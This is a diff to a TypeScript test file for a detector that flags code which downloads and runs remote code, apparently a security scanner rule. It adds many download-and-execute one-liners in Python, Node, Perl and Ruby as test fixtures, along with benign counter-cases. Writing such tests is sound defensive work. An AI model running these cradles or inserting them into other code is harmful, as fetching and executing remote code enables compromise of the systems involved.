@@ -29,7 +29,69 @@ const CRADLES: Array<[string, string[], string]> = [
   ['PowerShell through a variable', ['pwsh', '-c', `$s = (New-Object Net.WebClient).DownloadString('${U}'); Invoke-Expression $s`], 'Invoke-WebRequest'],
 ];
 
+/** The download reaches the code call through names the code assigns once. */
+const THROUGH_NAMES: Array<[string, string[], string]> = [
+  ['Python r = requests.get; exec(r.text)', ['python3', '-c', `import requests\nr = requests.get("${U}")\nexec(r.text)`], 'curl'],
+  ['Python two names', ['python3', '-c', `import urllib.request as u; r = u.urlopen("${U}"); src = r.read().decode(); exec(compile(src, "<x>", "exec"))`], 'curl'],
+  ['Python json field', ['python3', '-c', `import requests; cfg = requests.get("${U}").json(); exec(cfg["hook"])`], 'curl'],
+  ['Node await fetch', ['node', '-e', `(async () => { const r = await fetch("${U}"); const t = await r.text(); eval(t); })()`], 'curl'],
+  ['Node new Function', ['node', '-e', `(async () => { const r = await fetch("${U}"); new Function(await r.text())(); })()`], 'curl'],
+  ['Perl my $c = get', ['perl', '-MLWP::Simple', '-e', `my $c = get("${U}"); eval $c`], 'curl'],
+  ['Ruby body', ['ruby', '-e', `require "net/http"; b = Net::HTTP.get(URI("${U}")); eval(b)`], 'curl'],
+  ['Node IIFE body', ['node', '-e', `(async () => { const r = await fetch("${U}"); const t = await r.text(); eval(t); })()`], 'curl'],
+];
+
+/** The download reaches the code through a callback: a promise step, or the download call's own callback. */
+const THROUGH_CALLBACKS: Array<[string, string[], string]> = [
+  ['.then(eval)', ['node', '-e', `fetch("${U}").then(r => r.text()).then(eval)`], 'curl'],
+  ['.then(t => eval(t))', ['node', '-e', `fetch("${U}").then(r => r.text()).then(t => eval(t))`], 'curl'],
+  ['a named promise', ['node', '-e', `const p = fetch("${U}").then((r) => r.text()); p.then((src) => { new Function(src)(); })`], 'curl'],
+  ['https.get callback, data += chunk', ['node', '-e', `require("https").get("${U}", res => { let d = ""; res.on("data", c => d += c); res.on("end", () => eval(d)); })`], 'curl'],
+  ['https.get callback, Buffer.concat', ['node', '-e', `const h = require("https"); h.get("${U}", (res) => { const b = []; res.on("data", (c) => b.push(c)); res.on("end", () => { new Function(Buffer.concat(b).toString())(); }); })`], 'curl'],
+];
+
 describe('code that runs what it downloads', () => {
+  it('follows the download through names assigned once', () => {
+    for (const [name, argv, tool] of THROUGH_NAMES) {
+      expect(fed(argv), name).toContain(tool);
+      expect(execRuleIds(argv), name).toContain(RULE);
+    }
+  });
+
+  it('follows the download through a promise step or a callback that runs code', () => {
+    for (const [name, argv, tool] of THROUGH_CALLBACKS) {
+      expect(fed(argv), name).toContain(tool);
+      expect(canonicalExecValue(argv)!.indirectKinds & INDIRECT_RUNTIME, name).toBe(INDIRECT_RUNTIME);
+      expect(execRuleIds(argv), name).toContain(RULE);
+    }
+  });
+
+  it('leaves promise steps and callbacks that run no downloaded code', () => {
+    for (const argv of [
+      ['node', '-e', `fetch("${U}").then(r => r.json()).then(d => console.log(d.version))`],
+      ['node', '-e', `fetch("${U}").then(r => r.text()); eval(process.env.HOOK)`],
+      ['node', '-e', `fetch("${U}").then(r => r.text()).then(console.log)\nPromise.resolve(process.env.HOOK).then(eval)`],
+      ['node', '-e', `require("https").get("${U}", (res) => res.pipe(require("fs").createWriteStream("/tmp/x")))`],
+    ]) {
+      expect(fed(argv), argv.join(' ')).toEqual([]);
+      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
+    }
+  });
+
+  it('does not follow a name assigned twice, a member of the same name, or another name', () => {
+    for (const argv of [
+      // `r` is reassigned: which value runs is not known.
+      ['python3', '-c', `import requests; r = requests.get("${U}"); r = open("x.py").read(); exec(r)`],
+      // `cfg.r` is a member, not the name `r`.
+      ['python3', '-c', `import requests; r = requests.get("${U}"); exec(cfg.r)`],
+      // Downloaded, assigned, but what runs is another name.
+      ['node', '-e', `(async () => { const r = await fetch("${U}"); const code = process.env.HOOK; console.log(await r.text()); eval(code); })()`],
+    ]) {
+      expect(fed(argv), argv.join(' ')).toEqual([]);
+      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
+    }
+  });
+
   it('names the download tool as fed to a script, and MLS-RAY-012 alerts', () => {
     for (const [name, argv, tool] of CRADLES) {
       expect(fed(argv), name).toContain(tool);
